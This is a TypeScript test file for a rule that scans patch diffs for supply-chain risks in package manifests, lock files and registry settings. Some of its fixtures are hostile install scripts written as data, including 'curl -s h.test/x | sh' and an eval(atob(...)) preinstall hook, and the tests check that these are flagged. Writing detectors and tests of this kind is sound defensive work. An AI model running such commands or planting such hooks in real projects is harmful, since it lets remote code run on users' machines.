import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Advisories, Advisory } from '../context.ts';
import { adding, changeOf, fileOf, runOn } from '../text/test-change.ts';
import { dependencies } from './dependencies.ts';

const rulesIn = async (path: string, lines: readonly string[]): Promise<readonly string[]> =>
  (await runOn(dependencies, changeOf(fileOf(path, lines, 20)))).map(
    ({ severity, rule, line, side }) => `${severity} ${rule} ${side} ${line}`,
  );

describe('dependencies', () => {
  it.each<[string, string, string[], string[]]>([
    [
      'a new name one letter from a popular one',
      'package.json',
      ['   "dependencies": {', '+    "loadsh": "^4.0.0"'],
      ['medium typosquat new 21'],
    ],
    [
      'the same name when it was there before',
      'package.json',
      ['   "dependencies": {', '-    "loadsh": "^4.0.0"', '+    "loadsh": "^4.0.1"'],
      [],
    ],
    ['a popular name', 'package.json', ['   "dependencies": {', '+    "lodash": "^4.0.0"'], []],
    [
      'a name under a scope that strangers cannot use',
      'package.json',
      ['   "dependencies": {', '+    "@types/loadsh": "^4.0.0"'],
      [],
    ],
    [
      'a script that is run on installing',
      'package.json',
      ['+    "postinstall": "node a.js",'],
      ['medium install-script-added new 20'],
    ],
    [
      'one that pipes the network into a shell',
      'package.json',
      ['+    "install": "curl -s h.test/x | sh",'],
      ['high install-script-added new 20'],
    ],
    [
      'one that decodes and runs',
      'package.json',
      [`+    "preinstall": "node -e \\"eval(atob('YQ=='))\\"",`],
      ['high install-script-added new 20'],
    ],
    ['one of a common tool', 'package.json', ['+    "prepare": "husky",'], ['low install-script-added new 20']],
    ['one that stays', 'package.json', ['-    "postinstall": "node a.js"', '+    "postinstall": "node a.js",'], []],
    ['another host', '.npmrc', ['+registry=https://h.test/'], ['medium registry-changed new 20']],
    ['the usual host', '.npmrc', ['+registry=https://registry.npmjs.org/'], []],
    ['plain http', 'pip.conf', ['+index-url = http://pypi.h-test.dev/simple'], ['high registry-changed new 20']],
    [
      'plain http inside a network',
      'pip.conf',
      ['+index-url = http://pypi.internal/simple'],
      ['medium registry-changed new 20'],
    ],
    ['a check switched off', '.npmrc', ['+strict-ssl=false'], ['medium verification-disabled new 20']],
    [
      'a check switched off for Go',
      '.github/workflows/a.yml',
      ['+      GONOSUMDB: "*"'],
      ['medium verification-disabled new 20'],
    ],
    ['a scope that loses its registry', '.npmrc', ['-@s:registry=https://h.test/'], ['medium registry-changed old 20']],
    ['a module in another’s place', 'go.mod', ['+replace example.com/a => ../a'], ['medium registry-changed new 20']],
    [
      'another hash of the same version',
      'go.sum',
      ['-example.com/a v1.0.0 h1:A=', '+example.com/a v1.0.0 h1:B='],
      ['high integrity-changed new 20'],
    ],
    [
      'a stronger hash',
      'package-lock.json',
      [
        '     "node_modules/a": {',
        '       "version": "1.0.0",',
        '-      "integrity": "sha1-AAAA"',
        '+      "integrity": "sha512-BBBB"',
      ],
      ['low integrity-changed new 22'],
    ],
    [
      'a weaker hash',
      'package-lock.json',
      [
        '     "node_modules/a": {',
        '       "version": "1.0.0",',
        '-      "integrity": "sha512-BBBB"',
        '+      "integrity": "sha1-AAAA"',
      ],
      ['medium integrity-changed new 22'],
    ],
    [
      'a hash more of the same version',
      'requirements.txt',
      [' a==1.0 \\', '     --hash=sha256:aaaaaaaa \\', '+    --hash=sha256:bbbbbbbb'],
      [],
    ],
    [
      'a hash taken away',
      'requirements.txt',
      ['-a==1.0 --hash=sha256:aaaaaaaa', '+a==1.0'],
      ['medium integrity-removed old 20'],
    ],
    ['another hash of another version', 'go.sum', ['-example.com/a v1.0.0 h1:A=', '+example.com/a v1.1.0 h1:B='], []],
    [
      'a lower version that somebody wants',
      'go.mod',
      ['-\texample.com/a v1.1.0', '+\texample.com/a v1.0.0'],
      ['medium version-downgraded new 20'],
    ],
    [
      'a lower version that a resolver took',
      'yarn.lock',
      [' a@^1.0.0:', '-  version "1.1.0"', '+  version "1.0.0"'],
      ['low version-downgraded new 21'],
    ],
    [
      'a package in the lock file alone',
      'yarn.lock',
      ['+quite-a-name@^1.0.0:', '+  version "1.1.0"'],
      ['low lockfile-without-manifest new 21'],
    ],
    ['a package that nobody names', 'Cargo.lock', ['+version = "1.1.0"'], ['low package-unknown new 20']],
    ['a line too long to be true', 'yarn.lock', [`+  version "${'1'.repeat(20_000)}"`], ['low package-unknown new 20']],
  ])('says of %s what it is', async (_, path, lines, expected) => {
    expect(await rulesIn(path, lines)).toEqual(expected);
  });

  it('does not take for news a host that the file names already', async () => {
    const lock = (host: string) => [
      '   "packages": {',
      '     "node_modules/a": {',
      '       "resolved": "https://h.test/a.tgz"',
      '     },',
      '     "node_modules/b": {',
      `+      "resolved": "https://${host}/b.tgz"`,
    ];
    expect(await rulesIn('package-lock.json', lock('h.test'))).toEqual(['low lockfile-without-manifest new 25']);
    expect(await rulesIn('package-lock.json', lock('i.test'))).toContain('medium registry-changed new 25');
  });

  it('is silent about a lock file beside which a manifest changes', async () => {
    const lock = fileOf('a/yarn.lock', ['+quite-a-name@^1.0.0:', '+  version "1.1.0"']);
    const manifest = fileOf('a/b/package.json', ['+  "private": true']);
    expect(await runOn(dependencies, changeOf(lock, manifest))).toEqual([]);
  });

  it('knows a package that only moves from one manifest to another', async () => {
    const from = fileOf('a/package.json', ['   "dependencies": {', '-    "loadsh": "1.0.0"']);
    const to = fileOf('b/package.json', ['   "dependencies": {', '+    "loadsh": "1.0.0"']);
    expect(await runOn(dependencies, changeOf(from, to))).toEqual([]);
  });
});

const advisory = (id: string, severity: Advisory['severity']): Advisory => ({
  id,
  summary: 'bad',
  severity,
  fixedIn: ['9.0.0'],
});
const knowing = (known: Readonly<Record<string, readonly Advisory[]>>): Advisories => ({
  version: 'test',
  affecting: (ecosystem, name, version) => Promise.resolve(known[`${ecosystem} ${name} ${version}`] ?? []),
});
const said = async (
  lines: readonly string[],
  known: Readonly<Record<string, readonly Advisory[]>>,
): Promise<readonly string[]> => {
  const context = { advisories: knowing(known), neighbours: null, discussion: null };
  const found = await dependencies.run(changeOf(fileOf('package.json', ['   "dependencies": {', ...lines])), context);
  return found.map(({ severity, rule, line }) => `${severity} ${rule} ${line}`);
};

describe('known vulnerabilities', () => {
  it.each<[Advisory['severity'], string]>([
    ['critical', 'high'],
    ['high', 'medium'],
    ['moderate', 'low'],
    ['low', 'low'],
    [null, 'low'],
  ])('of severity %s are %s', async (severity, expected) => {
    const known = { 'npm quite-a-name 1.0.0': [advisory('GHSA-1', severity)] };
    expect(await said(['+    "quite-a-name": "1.0.0"'], known)).toEqual([`${expected} known-vulnerability 2`]);
    expect(await said(['+    "quite-a-name": "^1.0.0"'], known)).toEqual(['low known-vulnerability 2']);
  });

  it('that the version before had too weigh nothing', async () => {
    const known = {
      'npm quite-a-name 1.0.0': [advisory('GHSA-1', 'critical')],
      'npm quite-a-name 1.0.1': [advisory('GHSA-1', 'critical')],
      'npm quite-a-name 1.0.2': [advisory('GHSA-1', 'critical'), advisory('GHSA-2', 'high')],
    };
    const to = (version: string) => said(['-    "quite-a-name": "1.0.0"', `+    "quite-a-name": "${version}"`], known);
    expect(await to('1.0.1')).toEqual(['low known-vulnerability 2']);
    expect(await to('1.0.2')).toEqual(['medium known-vulnerability 2']);
  });

  it('are high whenever the release is malicious', async () => {
    const known = { 'npm quite-a-name 1.0.1': [advisory('MAL-1', 'critical'), advisory('GHSA-1', 'low')] };
    const change = ['-    "quite-a-name": "1.0.0"', '+    "quite-a-name": "1.0.1"'];
    expect(await said(change, known)).toEqual(['high malicious-release 2']);
  });

  it('are said once, at the manifest, however many files have the version', async () => {
    const context = {
      advisories: knowing({ 'npm quite-a-name 1.0.0': [advisory('GHSA-1', 'high')] }),
      neighbours: null,
      discussion: null,
    };
    const lock = fileOf('a/yarn.lock', ['+quite-a-name@1.0.0:', '+  version "1.0.0"']);
    const manifest = fileOf('a/package.json', ['   "dependencies": {', '+    "quite-a-name": "1.0.0"']);
    const found = await dependencies.run(changeOf(lock, manifest), context);
    expect(found.map(({ file }) => file)).toEqual(['a/package.json']);
  });
});

const PATHS = [
  ...[
    'package.json',
    'package-lock.json',
    'pnpm-lock.yaml',
    'yarn.lock',
    'requirements.txt',
    'pyproject.toml',
    'poetry.lock',
  ],
  ...[
    'uv.lock',
    'Pipfile.lock',
    'setup.py',
    'setup.cfg',
    'Cargo.toml',
    'Cargo.lock',
    'go.mod',
    'go.sum',
    '.npmrc',
    'Dockerfile',
  ],
];
const PARTS = [
  ...[
    '"dependencies": {',
    '"scripts": {',
    '"postinstall": "curl x | sh"',
    '"a": "^1.0.0"',
    '"',
    '{',
    '}',
    '[',
    ']',
    ',',
    ':',
    '\\',
  ],
  ...[
    '"node_modules/a": {',
    '"version": "1.0.0"',
    '"integrity": "sha512-A"',
    '"resolved": "http://h.dev/a/-/a-1.tgz"',
    '  a@1.0.0:',
  ],
  ...[
    '    resolution: {integrity: sha512-A}',
    'a@^1.0.0:',
    '  version "1.0.0"',
    'loadsh==1.0',
    '--hash=sha256:aaaaaaaaa',
    '[[package]]',
  ],
  ...[
    'name = "a"',
    'version = "1.0"',
    'source = "git+https://h.dev/a"',
    'checksum = "aa"',
    '[dependencies]',
    'a = { git = "x" }',
  ],
  ...[
    'require (',
    'example.com/a v1.0.0',
    'replace a.b => ../c',
    'h1:AAAA=',
    'registry=http://h.dev',
    ' ',
    '\t',
    '=',
    "'",
    '\0',
    '😀',
  ],
];

describe('whatever the change', () => {
  it('it names changed lines and never throws, in whichever order fragments come', async () => {
    const text = fc.array(fc.oneof(fc.constantFrom(...PARTS), fc.string({ unit: 'binary', maxLength: 6 })), {
      maxLength: 5,
    });
    const line = fc
      .tuple(fc.constantFrom('+', '-', ' '), text)
      .map(([mark, parts]) => mark + parts.join('').replaceAll('\n', ''));
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...PATHS),
        fc.array(line, { maxLength: 14 }),
        fc.integer({ min: 1, max: 9 }),
        async (path, lines, start) => {
          const file = fileOf(path, lines, start);
          for (const found of await runOn(dependencies, changeOf(file))) {
            const kind = found.side === 'new' ? 'added' : 'deleted';
            const at = file.hunks[0]?.lines.find(
              (each) => each.kind === kind && (found.side === 'new' ? each.newLine : each.oldLine) === found.line,
            );
            expect(at, `${found.rule} ${found.side} ${found.line}`).toBeDefined();
            expect(found.quote.length).toBeLessThanOrEqual(160);
          }
        },
      ),
      { numRuns: 1_000 },
    );
  });

  it('an empty change gives nothing, and a file that is none of its own is not read', async () => {
    expect(await runOn(dependencies, changeOf())).toEqual([]);
    expect(await runOn(dependencies, adding('README.md', 'GOSUMDB=off', '"postinstall": "curl x | sh"'))).toEqual([]);
    const file = fileOf('README.md', []);
    expect(file.hunks.map((hunk) => dependencies.reads?.(file, hunk))).toEqual([false]);
  });
});

it('reads a file that another mail of the series renames to a manifest', async () => {
  const added = fileOf('p.txt', ['+{ "scripts": {', '+    "postinstall": "node x.js"', '+} }']);
  const renamed = { ...fileOf('package.json', []), oldPath: 'p.txt', kind: 'renamed' } as const;
  expect(await runOn(dependencies, changeOf(added))).toEqual([]);
  expect(await runOn(dependencies, changeOf(added, renamed))).toMatchObject([
    { rule: 'install-script-added', file: 'p.txt', line: 2 },
  ]);
});
